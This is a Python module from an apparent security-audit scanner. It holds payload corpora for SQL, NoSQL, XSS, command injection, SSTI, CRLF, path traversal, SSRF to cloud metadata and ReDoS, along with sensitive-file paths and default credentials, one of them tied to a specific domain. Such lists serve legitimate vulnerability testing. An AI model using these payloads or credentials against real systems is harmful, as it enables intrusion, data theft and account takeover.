########################################################
# SECAUDIT - Security Audit Engine                     #
# Licensed under the MIT License                       #
# Author: Perry Mertens pamsniffer@gmail.com (C) 2025  #
########################################################
"""Attack payload corpora and wordlists used by the checks."""
from __future__ import annotations

from typing import List, Sequence

SQL_PAYLOADS: List[str] = [
    "'",
    '"',
    "' OR '1'='1",
    "' OR 1=1--",
    '" OR "1"="1',
    "') OR ('1'='1",
    "1' ORDER BY 100--",
    "1 UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "admin'--",
    "1; DROP TABLE users--",
    "' AND 1=CONVERT(int,@@version)--",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "1' AND '1'='2",
    "%27",
    "\\'",
    "' OR ''='",
    "1)) OR 1=1--",
    "' || (SELECT 1) || '",
    "'; SELECT pg_sleep(0)--",
]

SQL_TIME_PAYLOADS: List[str] = [
    "' AND SLEEP(5)--",
    "1 AND SLEEP(5)",
    "'; SELECT pg_sleep(5)--",
    "1; WAITFOR DELAY '0:0:5'--",
    "' OR (SELECT 1 FROM (SELECT SLEEP(5))x)--",
]

NOSQL_PAYLOADS: List[str] = [
    '{"$ne": null}',
    '{"$gt": ""}',
    '{"$regex": ".*"}',
    '{"$where": "1==1"}',
    '{"$exists": true}',
    '{"not": {"equals": ""}}',
    '{"contains": ""}',
    "' || '1'=='1",
    "[$ne]=1",
    '{"in": []}',
]

XSS_PAYLOADS: List[str] = [
    "<script>alert('secaudit')</script>",
    "<img src=x onerror=alert('secaudit')>",
    "<svg onload=alert('secaudit')>",
    "\"><script>alert('secaudit')</script>",
    "javascript:alert('secaudit')",
    "<iframe src=javascript:alert('secaudit')>",
    "<body onload=alert('secaudit')>",
    "'-alert('secaudit')-'",
    "<details open ontoggle=alert('secaudit')>",
    "<a href=\"javascript:alert('secaudit')\">x</a>",
]

DOM_PAYLOADS: List[str] = [
    "#<script>alert(1)</script>",
    "?debug=<script>alert(1)</script>",
    "#onload=alert(1)",
]

COMMAND_PAYLOADS: List[str] = [
    "; cat /etc/passwd",
    "| cat /etc/passwd",
    "`cat /etc/passwd`",
    "$(cat /etc/passwd)",
    "; id",
    "| id",
    "& dir",
    "| type C:\\windows\\system.ini",
]

SSTI_PAYLOADS: List[str] = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "*{7*7}",
]

CRLF_PAYLOADS: List[str] = [
    "%0d%0aSet-Cookie:%20admin=true",
    "%0d%0aX-Injected:%20secaudit",
    "\r\nSet-Cookie: admin=true",
    "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=true",
]

PATH_TRAVERSAL_PAYLOADS: List[str] = [
    "../../../../../etc/passwd",
    "..\\..\\..\\..\\..\\windows\\system.ini",
    "....//....//....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "/etc/passwd",
    "C:\\windows\\system.ini",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
]

SSRF_PAYLOADS: List[str] = [
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://localhost:5432",
    "http://127.0.0.1:6379",
    "http://localhost:27017",
    "http://[::1]/",
    "http://0.0.0.0:22",
    "file:///etc/passwd",
    "dict://localhost:6379/info",
    "gopher://localhost:6379/_INFO",
]

WEAK_PASSWORDS: List[str] = ["123456", "password", "abc123", "qwerty", "admin", "12345678"]

DEFAULT_CREDENTIALS: List[tuple] = [
    ("admin@admin.com", "admin"),
    ("admin@example.com", "admin123"),
    ("admin", "admin"),
    ("admin", "password"),
    ("root", "root"),
    ("test@test.com", "test"),
    ("superadmin@medaction.ma", "admin"),
]

SENSITIVE_FILES: List[str] = [
    "/.env",
    "/.env.local",
    "/.env.production",
    "/.env.development",
    "/config.json",
    "/config.yml",
    "/docker-compose.yml",
    "/Dockerfile",
    "/package.json",
    "/package-lock.json",
    "/next.config.js",
    "/prisma/schema.prisma",
    "/.npmrc",
    "/.htpasswd",
    "/web.config",
    "/id_rsa",
]

BACKUP_FILES: List[str] = [
    "/backup.sql",
    "/database.sql",
    "/dump.sql",
    "/db.sql",
    "/backup.zip",
    "/backup.tar.gz",
    "/site.zip",
    "/.env.bak",
    "/config.json.bak",
    "/index.php.bak",
]

GIT_PATHS: List[str] = ["/.git/config", "/.git/HEAD", "/.git/index", "/.gitignore"]

SOURCE_PATHS: List[str] = [
    "/_next/static/chunks/main.js.map",
    "/static/js/main.js.map",
    "/main.js.map",
    "/app.js.map",
    "/server.js",
    "/src/app.ts",
    "/index.ts",
]

HIDDEN_PATHS: List[str] = [
    "/.git",
    "/.git/config",
    "/.env",
    "/api/.env",
    "/api/config",
    "/api/debug",
    "/api/logs",
    "/api/backup",
    "/api/test",
    "/admin",
    "/administrator",
    "/phpmyadmin",
    "/adminer",
    "/backup.sql",
    "/prisma/schema.prisma",
    "/package.json",
    "/server.js",
]

ADMIN_API_PATHS: List[str] = [
    "/users",
    "/stats/global",
    "/system/settings",
    "/admin",
    "/admin/users",
    "/logs",
    "/config",
]

DEBUG_ENDPOINTS: List[str] = [
    "/api/debug",
    "/api/version",
    "/api/config",
    "/api/env",
    "/api/phpinfo",
    "/debug",
    "/__debug__",
    "/actuator",
    "/actuator/env",
]

ENV_ENDPOINTS: List[str] = ["/api/env", "/env", "/actuator/env", "/api/config", "/.env", "/api/debug/vars"]

DIRECTORY_PATHS: List[str] = ["/uploads/", "/static/", "/images/", "/files/", "/backup/", "/logs/", "/public/", "/assets/"]

COMMON_PORTS: List[int] = [21, 22, 23, 25, 3306, 5432, 6379, 27017, 9200, 11211, 8080, 8443]

SERVICE_PORTS = {
    21: "FTP",
    22: "SSH",
    23: "Telnet",
    25: "SMTP",
    3306: "MySQL",
    5432: "PostgreSQL",
    6379: "Redis",
    27017: "MongoDB",
    9200: "Elasticsearch",
    11211: "Memcached",
    8080: "HTTP-alt",
    8443: "HTTPS-alt",
}

DATASTORE_PORTS = {3306, 5432, 6379, 27017, 9200, 11211}
CLEARTEXT_PORTS = {21, 23}

REDOS_PAYLOADS: List[str] = [
    "a" * 30 + "!",
    "(a+)+" + "a" * 25 + "b",
    "a@" + "a" * 40 + ".",
    "x" * 5000,
]


def top(items: Sequence[str], aggressive: bool, default: int = 8) -> List[str]:
    """Full list in aggressive mode, a short head otherwise."""
    return list(items) if aggressive else list(items[:default])
